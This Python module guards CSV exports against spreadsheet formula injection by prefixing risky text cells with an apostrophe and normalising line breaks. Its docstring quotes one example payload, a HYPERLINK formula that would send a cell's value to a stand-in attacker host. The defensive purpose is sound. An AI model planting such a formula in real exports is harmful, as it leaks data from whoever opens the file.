"""CSV files a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with "=", "+", "-" or "@" (and some a tab or a
carriage return) as a formula: a client's own value such as =HYPERLINK("http://evil.example/?x="&A1,"click") in
a model name would run on whoever opens our export. OWASP's rule: such a text cell is written with a leading
apostrophe, which the spreadsheet shows as the text it is. Numbers are written as numbers. Every CSV the server
writes goes through `writer` (itad.inventory.feeds, .statements, the certificates' index).
"""

from __future__ import annotations

import csv
from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a CSV cell: a text that a spreadsheet would run as a formula gets a leading apostrophe, and
    its line breaks are written as "\n" (a bare carriage return is not quoted by the csv module when lines end
    in "\n", and would cut the row in two for whoever reads the file)."""
    if not isinstance(value, str):
        return value
    runs = value.startswith(FORMULA_STARTS)
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + value if runs else value


class _Writer:
    def __init__(self, out, **options) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> _Writer:
    """csv.writer(out, **options), every cell neutralised."""
    return _Writer(out, **options)
